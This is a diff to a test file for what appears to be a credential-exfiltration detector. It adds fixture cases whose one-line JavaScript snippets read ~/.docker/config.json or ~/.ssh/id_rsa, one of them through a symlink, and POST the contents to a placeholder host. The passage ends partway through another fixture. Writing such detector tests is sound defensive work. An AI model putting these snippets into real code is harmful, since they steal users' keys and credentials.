@@ -4,6 +4,27 @@ import { sendsCredentials } from './sends-credentials.ts';
 examine(sendsCredentials, {
   speaks: [
     {
+      when: 'a file of data of the machine is loaded as a module',
+      files: {
+        'index.js': `const os = require('os'); fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(require(os.homedir() + '/.docker/config.json')) })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a function puts the home in the place of a tilde',
+      files: {
+        'index.js': `const os = require('os'), fs = require('fs'); const file = '~/.ssh/id_rsa'.replace(/^~/, () => os.homedir()); fetch('https://a.invalid', { method: 'POST', body: fs.readFileSync(file) })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a link to it is read',
+      files: {
+        'index.js': `const os = require('os'), fs = require('fs'); fs.symlinkSync(os.homedir() + '/.ssh/id_rsa', '/tmp/notes'); fetch('https://a.invalid', { method: 'POST', body: fs.readFileSync('/tmp/notes') })`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'tasks of a list of another file fill and send what an object keeps, one after the other',
       files: {
         'session.js': `const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
